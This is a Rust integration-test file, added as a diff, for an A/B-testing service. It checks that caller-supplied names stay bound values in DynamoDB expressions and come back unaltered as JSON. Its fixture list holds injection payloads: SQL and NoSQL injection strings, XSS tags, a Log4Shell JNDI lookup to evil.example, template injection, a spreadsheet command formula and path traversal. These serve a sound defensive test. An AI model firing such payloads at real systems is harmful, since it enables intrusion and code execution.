@@ -1,0 +1,213 @@
+//! What callers name and write is data: in keys and expressions of DynamoDB it is always a bound
+//! value, and it comes back as it was, in JSON.
+
+#![expect(clippy::unwrap_used, reason = "a test that cannot be set up is to panic")]
+
+use std::collections::BTreeSet;
+use std::fs;
+
+use bellwether::auth::role::Role;
+use bellwether::store::key::EventKey;
+use bellwether_tests::caller::{launch, path, results, rows};
+use bellwether_tests::cloud::Cloud;
+use bellwether_tests::fleet::Fleet;
+use bellwether_tests::random::Random;
+use bellwether_tests::runtime::project;
+use serde_json::{Value, json};
+
+const SEED: u64 = 20_261_121;
+/// Random names beside the fixed ones.
+const MANY: usize = 250;
+/// Units in a request.
+const BATCH: usize = 20;
+/// What is a condition, a key, a query or a page elsewhere.
+const FIXED: [&str; 24] = [
+    "attribute_exists(pk)",
+    "attribute_not_exists(#name)",
+    "#name = :value",
+    "#k = :v OR :v = :v",
+    "pk = \"acme/pricing-page/000\" AND begins_with(sk, \"a\")",
+    "SET #count = :by REMOVE pk",
+    "{\"S\":\"acme\"}",
+    "{\"$ne\":null}",
+    "$where",
+    "' OR '1'='1",
+    "\"; DROP TABLE events; --",
+    "acme.com 0 000001",
+    "acme.com 1 demo-booked crm-991",
+    "%20%25%2F%00",
+    "a%20b",
+    "a b",
+    "../../other/pricing-page/000",
+    "other/pricing-page/000",
+    "<script>alert(1)</script>",
+    "<svg onload=alert(1)>",
+    "${jndi:ldap://evil.example/a}",
+    "{{7*7}}",
+    "=cmd|' /C calc'!A0",
+    "\u{202e}moc.emca\u{2066}",
+];
+const PIECES: [&str; 28] = [
+    "#k",
+    ":v",
+    "=",
+    " ",
+    "(",
+    ")",
+    "attribute_exists",
+    "pk",
+    "sk",
+    " AND ",
+    " OR ",
+    "NOT ",
+    "'",
+    "\"",
+    "\\",
+    "{",
+    "}",
+    "$",
+    "%",
+    "%2",
+    "/",
+    "..",
+    "0",
+    "1",
+    "ü",
+    "😀",
+    "\u{2028}",
+    "<b>",
+];
+
+/// Names of units, no two alike.
+fn names() -> Vec<String> {
+    let mut random = Random::new(SEED);
+    let mut all: BTreeSet<String> = FIXED.iter().map(|name| (*name).to_owned()).collect();
+    while all.len() < FIXED.len() + MANY {
+        let pieces = 1 + random.below(8);
+        all.insert((0..pieces).map(|_| *random.pick(&PIECES)).collect());
+    }
+    all.into_iter().collect()
+}
+
+fn sample() -> Value {
+    let event = bellwether_tests::fleet::sample("create-test");
+    serde_json::from_str(event["body"].as_str().unwrap()).unwrap()
+}
+
+/// Asks until the answer has no part that is to be asked again; a slow machine has such.
+async fn ask(cloud: &Cloud, fleet: &mut Fleet, function: &str, part: &str, body: &Value) -> Vec<Value> {
+    let event = cloud.event("POST", &path("hostile", part), Some("hostile"), Role::Admin, body);
+    for _ in 0..20 {
+        let answer = fleet.ask(function, event.clone()).await;
+        assert_eq!(answer.header("x-content-type-options"), "nosniff");
+        let items = answer.json()[part].as_array().cloned().unwrap_or_default();
+        let again = |item: &Value| item["problem"]["status"] == 503;
+        if answer.status != 503 && !items.iter().any(again) {
+            assert_eq!(answer.header("content-type"), "application/json; charset=utf-8", "{answer:?}");
+            return items;
+        }
+    }
+    panic!("{function} is never done");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn units_are_told_apart_and_counted_whatever_they_are_called() {
+    let cloud = Cloud::start().await;
+    let mut fleet = Fleet::new(&cloud, &[]);
+    let mut test = sample();
+    (test["test_id"], test["targeting"]) = (json!("hostile"), json!({}));
+    launch(&cloud, &cloud.dynamodb, &test).await;
+    let names = names();
+    let mut told = Vec::new();
+    for first in [true, false] {
+        let mut variants = Vec::new();
+        for part in names.chunks(BATCH) {
+            let units: Vec<Value> = part.iter().map(|name| json!({ "unit_id": name })).collect();
+            let told =
+                ask(&cloud, &mut fleet, "assign-variant", "assignments", &json!({ "units": units })).await;
+            for (unit, name) in told.iter().zip(part) {
+                assert_eq!(unit["unit_id"], json!(name), "{unit}");
+                assert!(first || unit["new"] == false, "{unit}");
+                variants.push(unit["variant"].clone());
+            }
+        }
+        told.push(variants);
+        // Another process asks the table and not its memory.
+        fleet = Fleet::new(&cloud, &[]);
+    }
+    assert_eq!(told[0], told[1], "a unit keeps its variant");
+    for part in names.chunks(BATCH) {
+        let event = |name: &String| json!({ "unit_id": name, "goal": "demo-booked", "event_id": "e" });
+        let events: Vec<Value> = part.iter().map(event).collect();
+        let told =
+            ask(&cloud, &mut fleet, "record-conversion", "conversions", &json!({ "events": events })).await;
+        assert!(told.iter().all(|event| event["duplicate"].is_boolean()), "{told:?}");
+    }
+    assert_stored(&cloud, &names).await;
+    let results = results(&cloud, &cloud.dynamodb, "hostile").await;
+    let counted: u64 = results["units"].as_object().unwrap().values().filter_map(Value::as_u64).sum();
+    assert_eq!(counted, names.len() as u64, "{results}");
+    let arms = results["goals"][0]["arms"].as_array().unwrap();
+    let converted: u64 = arms.iter().map(|arm| arm["converted"].as_u64().unwrap()).sum();
+    assert_eq!(converted, names.len() as u64, "{results}");
+}
+
+/// Each unit has its two rows, in partitions of its own test, and there is no other row.
+async fn assert_stored(cloud: &Cloud, names: &[String]) {
+    let mut units = Vec::new();
+    for (pk, sk, _) in rows(cloud).await {
+        assert!(pk.starts_with("acme/hostile/"), "{pk}");
+        match EventKey::read(&sk) {
+            Some(EventKey::Assignment(unit, 1)) => units.push(unit.as_str().to_owned()),
+            Some(EventKey::Conversion(unit, ..)) => units.push(unit.as_str().to_owned()),
+            other => panic!("{sk}: {other:?}"),
+        }
+    }
+    units.sort();
+    let twice: Vec<String> = names.iter().flat_map(|name| [name.clone(), name.clone()]).collect();
+    assert_eq!(units, twice);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_written_comes_back_as_it_was_and_as_json() {
+    let cloud = Cloud::start().await;
+    let mut fleet = Fleet::new(&cloud, &[]);
+    for (number, text) in FIXED.iter().filter(|text| !text.contains('\u{202e}')).enumerate() {
+        let test_id = format!("t-{number}");
+        let mut test = sample();
+        (test["test_id"], test["name"], test["hypothesis"]) = (json!(test_id), json!(text), json!(text));
+        test["variants"][1]["parameters"] = json!({ *text: text, "list": [text] });
+        test["segments"] = json!([text]);
+        test["overrides"] = json!({ *text: "calculator" });
+        test["targeting"] = json!({ "industry": { "$in": [text] } });
+        let created = fleet.ask("create-test", cloud.event("POST", "/tests", None, Role::Admin, &test)).await;
+        assert_eq!(created.status, 201, "{text}: {created:?}");
+        let event =
+            cloud.event("GET", &format!("/tests/{test_id}"), Some(&test_id), Role::Viewer, &Value::Null);
+        let read = fleet.ask("get-test", event).await;
+        assert_eq!(read.header("content-type"), "application/json; charset=utf-8");
+        for field in ["name", "hypothesis", "segments", "overrides", "targeting"] {
+            assert_eq!(read.json()[field], test[field], "{text}");
+        }
+        assert_eq!(read.json()["variants"][1]["parameters"], test["variants"][1]["parameters"]);
+    }
+}
+
+#[test]
+fn no_expression_is_put_together_from_data() {
+    let mut found = 0;
+    for file in fs::read_dir(project().join("shared/src/store")).unwrap() {
+        let file = file.unwrap().path();
+        let text = fs::read_to_string(&file).unwrap();
+        for (at, _) in text.match_indices("_expression(") {
+            let argument = text[at..].split_once('(').unwrap().1.trim_start();
+            // `expression` is what `Condition::expression` gives, whose type says that it is a literal.
+            let fixed = argument.starts_with('"') || argument.starts_with("expression)");
+            assert!(fixed, "{}: {}", file.display(), &argument[..argument.len().min(60)]);
+            found += 1;
+        }
+    }
+    let table = fs::read_to_string(project().join("shared/src/store/table.rs")).unwrap();
+    assert!(table.contains("fn expression(self) -> (&'static str, &'static str, Option<AttributeValue>)"));
+    assert!(found > 5, "the expressions are elsewhere");
+}
